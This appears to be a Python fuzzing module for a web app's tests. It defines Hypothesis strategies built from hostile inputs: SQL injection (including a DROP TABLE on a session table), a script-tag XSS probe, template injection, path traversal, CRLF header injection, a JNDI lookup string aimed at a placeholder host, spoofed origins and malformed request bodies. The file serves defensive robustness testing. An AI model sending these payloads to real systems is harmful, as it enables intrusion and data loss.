"""What people send who wish the site no good."""

import json
from typing import Any
from urllib.parse import quote

from hypothesis import strategies as st

TEXTS = (
    "",
    " ",
    ".",
    "..",
    "../../admin",
    "a/b",
    "?a=b",
    "#fragment",
    "%00",
    "%",
    "\x00",
    "a\x00b",
    "a\r\nX-Injected: yes",
    "' OR 1=1 --",
    '"; DROP TABLE chatkit_sessions_chatsession; --',
    "<script>alert(1)</script>",
    "{{ 7 * 7 }}",
    "%(name)s %s {0}",
    "null",
    "true",
    "-1",
    "0",
    "101",
    "1e400",
    "9" * 5000,
    "٣",  # digits to int()
    "İ",
    "ﬁ",
    "e\u0301",
    "\u202etxt.exe",
    "\ufeff",
    "\U0001f600",
    "*" * 255,
    "*" * 256,
    "default",
    "DEFAULT",
    "default ",
    "wf_tests",
    "cksess_none",
)
VALUES: tuple[Any, ...] = (
    *TEXTS,
    "\ud800",
    None,
    True,
    0,
    -1,
    10**400,
    1e308,
    float("nan"),
    float("inf"),
    [],
    {},
    {"id": None},
    {"id": {"id": "default"}},
    {"id": "default", "version": "latest"},
    {"id": "\x00"},
    [[]] * 100,
    {"a": {"b": [1]}},
)
NAMES = (
    "workflow",
    "current_client_secret",
    "currentClientSecret",
    "state_variables",
    "user",
    "",
    "\x00",
    "__proto__",
)
BODIES = (
    b"",
    b"\x00",
    b"{",
    b"[]",
    b"null",
    b'"text"',
    b"1" * 5000,
    b"1e999",
    b"\xff\xfe",
    b"\xef\xbb\xbf{}",
    '{"workflow": "default"}'.encode("utf-16"),
    b'{"workflow": "default", "workflow": null}',
    b'{"workflow": "\\ud800"}',
    b"[" * 60_000,
    b'{"a":' * 10_000,
    b'{"workflow": "' + b"a" * 70_000 + b'"}',
    json.dumps({str(number): number for number in range(5_000)}).encode(),
    b"workflow=default&state_variables=1",
    b'--x\r\nContent-Disposition: form-data; name="workflow"\r\n\r\ndefault\r\n--x--\r\n',
)
CONTENT_TYPES = (
    "",
    "application/json; charset=utf-16",
    "application/json; charset=none",
    "application/json;;;",
    "application/x-www-form-urlencoded",
    "multipart/form-data",
    "multipart/form-data; boundary=x",
    "multipart/form-data; boundary=\xe9",
    "text/html",
    "text/plain, application/json",
    "*/*",
    "/",
)
HEADERS = {
    "Accept": ("text/html", "*/*;q=0", "application/json;q=x", "application/json; indent=9", "", ";", "\xff"),
    "Accept-Language": ("de", "xx", "*", "de;q=9", "a" * 5000, "\xe9", "../../etc"),
    "Authorization": ("Basic", "Basic !", "Basic YTpi", "Basic /////w==", "Bearer x", "Basic a b", "\xe9"),
    "X-CSRFToken": ("", "short", "\xe9" * 32, "a" * 64),
    "X-Forwarded-For": ("", ",", "::1%eth0", "::ffff:1.2.3.4", "999.1.1.1", "\xe9", "a" * 5000),
    "User-Agent": ("", "\xe9\xff", "\x1b[31m", "a" * 5000, "${jndi:ldap://example.invalid/a}"),
    "Origin": ("null", "https://evil.example", "://", "http://[::1", "\xe9"),
    "Referer": ("https://evil.example/", "http://[::1", "\xe9"),
    "X-HTTP-Method-Override": ("DELETE", "\xe9"),
    "Cookie": ("chatkit_visitor=x", "sessionid=%00", "csrftoken=\xe9", "=;", "django_language=..", "a" * 99),
}  # fmt: skip

texts = st.sampled_from(TEXTS) | st.text(max_size=20)
values = st.sampled_from(VALUES) | texts
variables = st.dictionaries(st.sampled_from(["page", "a" * 65, ""]) | texts, values, max_size=3)
bodies = st.sampled_from(BODIES) | st.one_of(
    st.dictionaries(st.sampled_from(NAMES), values, max_size=4),
    st.fixed_dictionaries({"state_variables": variables}),
    # The site lets the browser send this one.
    st.fixed_dictionaries({"state_variables": st.fixed_dictionaries({"page": values})}),
).map(lambda body: json.dumps(body).encode())
# Text with Latin letters only is all that a server hands on of a header, and never with an end of line.
headers = st.sampled_from(sorted(HEADERS)).flatmap(
    lambda name: st.tuples(
        st.just(name),
        st.sampled_from(HEADERS[name])
        | st.text(st.characters(min_codepoint=32, max_codepoint=255), max_size=30),
    )
)
# The last two are no UTF-8.
path_segments = texts.map(lambda text: quote(text, safe="", errors="replace")) | st.sampled_from(
    ["%FF%FE", "%C3%28"]
)
